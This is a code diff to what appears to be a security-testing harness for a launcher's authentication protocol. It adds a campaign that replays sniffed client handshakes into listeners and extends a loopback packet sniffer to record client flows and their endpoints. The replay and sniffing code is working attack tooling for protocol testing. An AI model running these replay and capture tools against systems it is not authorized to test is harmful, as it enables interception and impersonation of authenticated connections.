@@ -279,6 +279,68 @@ def cmd_replay(args):
     finish(args)
 
 
+HELLO_BYTES, REPLY_BYTES, FINISH_BYTES = 64, 68, 32  # launcher/comm/auth.hpp
+
+
+def replay_one(addr, data, text):
+    """One captured client stream, replayed as its client sent it: the Hello, then (once
+    the listener has sent its challenge) the captured Finish, and after an Ack the rest
+    of the capture and TEXT. Returns "accepted" when the listener acknowledged the
+    Finish (it believed the replay), else what it did instead."""
+    try:
+        with connect(addr, timeout=3) as s:
+            s.sendall(data[:HELLO_BYTES])
+            reply = b""
+            while len(reply) < REPLY_BYTES:
+                chunk = s.recv(REPLY_BYTES - len(reply))
+                if not chunk:
+                    return "closed after the Hello (%d bytes of challenge)" % len(reply)
+                reply += chunk
+            s.sendall(data[HELLO_BYTES:HELLO_BYTES + FINISH_BYTES])
+            ack = s.recv(1)
+            if ack != b"\x01":
+                return "closed after the captured Finish" if not ack else "answered %r to the Finish" % ack
+            s.sendall(data[HELLO_BYTES + FINISH_BYTES:] + text)
+            return "accepted"
+    except socket.timeout:
+        return "no answer within 3 s"
+    except OSError as e:
+        return "connection failed: %s" % (e.strerror or e)
+
+
+def cmd_replay_captured(args):
+    """Replays whole captured handshakes (sniff --flows-to) into listeners on TARGET_HOST:
+    first each stream into the listener it was captured going to (the same running job:
+    its key id matches, so only the listener's fresh challenge can tell), then every
+    stream into every other such listener (re-targeted), and with --also-listeners into
+    the job's listeners in this namespace too. Two rounds."""
+    with open(args.flows_to) as f:
+        flows = [(x["to"], bytes.fromhex(x["data"])) for x in json.load(f)]
+    flows = [(to, d) for to, d in flows if len(d) >= HELLO_BYTES + FINISH_BYTES]
+
+    def addr_of(text):
+        host, port = text.rsplit(":", 1)
+        return host, int(port)
+
+    targets = sorted({addr_of(to) for to, _ in flows if addr_of(to)[0] == args.target_host})
+    if args.also_listeners:
+        targets += sorted(tcp_sockets(args.uid) - set(targets))
+    plan = [(addr_of(to), d) for to, d in flows if addr_of(to) in targets]
+    plan += [(t, d) for t in targets for to, d in flows if addr_of(to) != t]
+    say("INFO %d captured handshake(s), %d listener(s) on %s: %d replay(s) a round" %
+        (len(flows), len(targets), args.target_host, len(plan)))
+    text = args.text.encode()
+    for _ in range(2):
+        for addr, data in plan:
+            if os.path.exists(args.stop):
+                break
+            what = replay_one(addr, data, text)
+            say("INFO replayed %d captured bytes into %s:%d: %s" % (len(data), addr[0], addr[1], what))
+            if what == "accepted":
+                say("FACT replay-accepted %s:%d acknowledged a replayed handshake" % addr)
+    finish(args)
+
+
 def cmd_squat(args):
     s = socket.socket()
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
@@ -589,6 +651,7 @@ def cmd_sniff(args):
         attach_port_filter(sock, args.dump_port)
     sock.settimeout(0.2)
     tails, firsts = {}, {}
+    clients = set()  # flows whose SYN (without ACK) was seen: sent by the connection's client
     listeners, rescan = set(), 0.0
     hits = packets = payload_bytes = 0
     dump = open(args.out + ".dump", "wb") if args.dump_port else None
@@ -620,6 +683,8 @@ def cmd_sniff(args):
         tcp = ip[ihl:total]
         sport, dport = struct.unpack("!HH", tcp[:4])
         data = tcp[(tcp[12] >> 4) * 4:]
+        if len(tcp) > 13 and tcp[13] & 0x12 == 0x02:  # SYN without ACK: this side is the client
+            clients.add((ip[12:16], sport, ip[16:20], dport))
         if not data:
             continue
         packets += 1
@@ -647,6 +712,13 @@ def cmd_sniff(args):
             listeners |= {p for _, p in tcp_sockets(args.uid)}
             json.dump([v.hex() for k, v in firsts.items() if k[3] in listeners and len(v) >= 8], f)
         os.chmod(args.flows, 0o644)
+    if args.flows_to:  # every client stream whose start was seen, with its endpoints (any namespace)
+        def ep(a, port):
+            return "%s:%d" % (socket.inet_ntoa(a), port)
+        with open(args.flows_to, "w") as f:
+            json.dump([{"from": ep(k[0], k[1]), "to": ep(k[2], k[3]), "data": v.hex()}
+                       for k, v in firsts.items() if k in clients], f)
+        os.chmod(args.flows_to, 0o644)
 
 
 def cmd_flip_proxy(args):
@@ -882,7 +954,10 @@ def main():
     campaign("shm", cmd_shm)
     campaign("key-hunt", cmd_key_hunt)
     q = campaign("squat", cmd_squat)
-    q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""))
+    q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""),
+                 flows_to=dict(default=""))
+    campaign("replay-captured", cmd_replay_captured, flows_to=dict(required=True), target_host=dict(required=True),
+             text=dict(required=True), also_listeners=dict(action="store_true"))
     q = campaign("flip-proxy", cmd_flip_proxy, pid=dict(type=int, required=True), listen_ip=dict(required=True),
                  target_ip=dict(required=True), every=dict(type=int, default=4 << 20),
                  mode=dict(choices=("flip", "drop", "reorder", "replay"), default="flip"))
